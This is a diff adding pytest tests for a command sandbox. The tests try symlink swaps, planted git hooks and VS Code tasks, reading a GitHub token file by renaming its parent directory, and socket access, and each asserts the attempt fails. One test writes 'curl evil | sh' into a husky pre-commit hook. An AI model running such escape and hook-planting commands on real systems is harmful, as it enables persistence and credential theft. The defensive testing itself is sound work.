@@ -338,3 +338,125 @@ async def test_ld_preload_through_env_runs_nothing_outside_the_sandbox(
         result = await server.run(session["sessionId"], ["true"], env={variable: library})
         assert result["exitCode"] == 0 or backend == "landlock"
         assert not target.exists(), f"{variable} ran code outside the sandbox"
+
+
+async def test_nested_writable_root_swapped_for_a_symlink_between_runs(
+    server: RpcClient, scratch: Path, owner, backend: str
+):
+    workspace, outside = scratch / "ws", scratch / "outside"
+    (workspace / "a" / "b").mkdir(parents=True)
+    outside.mkdir()
+    chown_tree(scratch, owner)
+    opened = await server.open(workspace=str(workspace), writable=[str(workspace / "a" / "b")], protectDefaults=False)
+    await server.run(opened["sessionId"], "mv a a_old && mkdir a && ln -s ../../outside a/b")
+    await server.run(opened["sessionId"], "echo escaped > a/b/x; true")
+    assert not (outside / "x").exists()
+
+
+async def test_placeholders_outlive_the_close_of_another_session_on_the_same_workspace(
+    server: RpcClient, scratch: Path, owner, backend: str
+):
+    if backend == "landlock":
+        pytest.skip("landlock refuses sessions that need protected paths (asserted elsewhere)")
+    plain = scratch / "shared"
+    plain.mkdir()
+    chown_tree(plain, owner)
+    first = await server.open(workspace=str(plain))
+    second = await server.open(workspace=str(plain))
+    await server.call("session/close", {"sessionId": first["sessionId"]})
+    result = await server.run(second["sessionId"], (
+        "git init -q . 2>/dev/null; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit && echo PLANTED; "
+        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; true"))
+    await server.call("session/close", {"sessionId": second["sessionId"]})
+    assert "PLANTED" not in result["stdout"] and "TASKS" not in result["stdout"]
+    assert not (plain / ".git" / "hooks").exists() and not (plain / ".vscode").exists()
+    # What the command's git init wrote into .git (HEAD, objects) is its own, and stays.
+    assert not (plain / ".git" / "config").exists() or (plain / ".git" / "config").read_text() == ""
+
+
+async def test_protected_path_that_is_a_symlink_is_refused_not_left_writable(
+    server: RpcClient, fake_home: Path, owner, backend: str
+):
+    (fake_home / "dotfiles").mkdir()
+    (fake_home / "dotfiles" / "bashrc").write_text("original\n")
+    (fake_home / ".bashrc").symlink_to("dotfiles/bashrc")
+    chown_tree(fake_home, owner)
+    with pytest.raises(RpcError) as refused:
+        await server.open(workspace=str(fake_home))
+    assert refused.value.code == -32602 and "params.protectDefaults" in refused.value.message
+    assert (fake_home / ".bashrc").is_symlink()
+
+
+async def test_hidden_path_carried_out_by_renaming_its_parent_between_runs(
+    server: RpcClient, fake_home: Path, owner, backend: str
+):
+    (fake_home / ".config" / "gh").mkdir(parents=True)
+    (fake_home / ".config" / "gh" / "hosts.yml").write_text("token: " + SECRET_VALUE)
+    chown_tree(fake_home, owner)
+    opened = await server.open(workspace=str(fake_home), protectDefaults=True) if backend != "landlock" else None
+    if opened is None:
+        opened = await server.open(workspace=str(fake_home), protectDefaults=False,
+                                   denyRead=[str(fake_home / ".config" / "gh")])
+    first = await server.run(opened["sessionId"], "mv .config .config2 2>&1; echo rc=$?")
+    try:
+        second = await server.run(opened["sessionId"], "cat .config2/gh/hosts.yml .config/gh/hosts.yml 2>&1; true")
+    except RpcError as refused:
+        # The hidden path moved away (landlock cannot anchor it): the run is refused instead.
+        assert refused.code == -32005 and "gone since the session opened" in refused.message
+        return
+    assert SECRET_VALUE not in first["stdout"] + second["stdout"]
+    assert (fake_home / ".config" / "gh" / "hosts.yml").exists() or "rc=0" not in first["stdout"]
+
+
+async def test_git_core_hooks_path_is_protected_like_git_hooks(server: RpcClient, scratch: Path, owner, backend: str):
+    repo = _repo(scratch / "husky", owner)
+    (repo / ".husky").mkdir()
+    (repo / ".husky" / "pre-commit").write_text("npm test\n")
+    subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), "config", "core.hooksPath", ".husky"], check=True)
+    chown_tree(repo, owner)
+    opened = await open_or_refused(server, backend, workspace=str(repo))
+    if opened is None:
+        return
+    result = await server.run(opened["sessionId"], "echo 'curl evil | sh' >> .husky/pre-commit && echo PLANTED; true")
+    assert "PLANTED" not in result["stdout"]
+    assert (repo / ".husky" / "pre-commit").read_text() == "npm test\n"
+
+
+async def test_host_unix_socket_is_unreachable_with_network_full_too(
+    server: RpcClient, scratch: Path, owner, marker: str, backend: str
+):
+    path = str(scratch / f"full-{marker[:7]}.sock")
+    listener = _unix_listener(path, owner)
+    try:
+        opened = await server.open(network="full")
+        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
+        if backend == "landlock":
+            # The difference: landlock cannot mask a socket file; the session says so.
+            assert any("host Unix sockets are reachable" in w for w in opened["warnings"])
+            return
+        assert "CONNECTED" not in result["stdout"] and not _was_reached(listener)
+    finally:
+        listener.close()
+        os.unlink(path)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="binds a socket in /run from another network namespace")
+async def test_host_socket_bound_in_another_network_namespace(
+    server: RpcClient, identity: str, marker: str, backend: str
+):
+    path = f"/run/zsb-escape-{marker[:7]}.sock"
+    daemon = subprocess.Popen(["unshare", "--net", "python3", "-c", (
+        "import socket, os, sys, time\ns = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777)\n"
+        "s.listen(4); print('ready', flush=True); c, _ = s.accept(); open(sys.argv[1] + '.reached', 'w').close()\n"
+        f"time.sleep({marker})"), path], stdout=subprocess.PIPE, text=True)
+    try:
+        assert daemon.stdout is not None and daemon.stdout.readline().strip() == "ready"
+        opened = await server.open()
+        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
+        assert "CONNECTED" not in result["stdout"] and not Path(path + ".reached").exists()
+    finally:
+        daemon.kill()
+        daemon.wait()
+        for leftover in (path, path + ".reached"):
+            if os.path.lexists(leftover):
+                os.unlink(leftover)
